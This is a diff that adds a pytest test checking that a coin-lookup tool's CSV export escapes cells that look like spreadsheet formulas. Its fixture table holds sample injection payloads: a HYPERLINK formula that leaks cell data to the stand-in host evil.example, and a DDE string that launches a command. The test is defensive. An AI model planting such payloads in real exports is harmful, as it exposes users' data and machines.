@@ -126,6 +126,35 @@ def test_csv_has_a_header_and_a_row_per_item(
     assert all(float(r["market_cap_sol"]) > 0 for r in rows)
 
 
+FORMULAS = {
+    # name as the server sends it: what a spreadsheet must show (never run)
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")': (
+        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    ),
+    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(A1:A9)": "'@SUM(A1:A9)",
+    "\t=1+1": "'=1+1",  # the sanitiser trims the tab; the quote is still added after it
+    "\r\n=2+2": "'=2+2",
+    " =3+3": "'=3+3",
+}
+
+
+def test_csv_cells_that_look_like_formulas_are_written_as_text(
+    sim: SimServer, capsys: pytest.CaptureFixture[str]
+) -> None:
+    mints = [sim.create_coin(name=name, symbol="=SYM") for name in FORMULAS]
+
+    status = coins_cli(sim, *mints, "=not-a-mint", "--format", "csv")
+
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert status == 1  # the invalid item
+    assert [r["name"] for r in rows[:-1]] == list(FORMULAS.values())
+    assert {r["symbol"] for r in rows[:-1]} == {"'=SYM"}
+    assert rows[-1]["mint"] == "'=not-a-mint"  # the user's own input is a cell too
+    assert all(float(r["market_cap_sol"]) > 0 for r in rows[:-1])  # numbers stay numbers
+
+
 def test_a_found_coin_carries_its_metadata_in_documented_units(
     sim: SimServer, capsys: pytest.CaptureFixture[str]
 ) -> None:
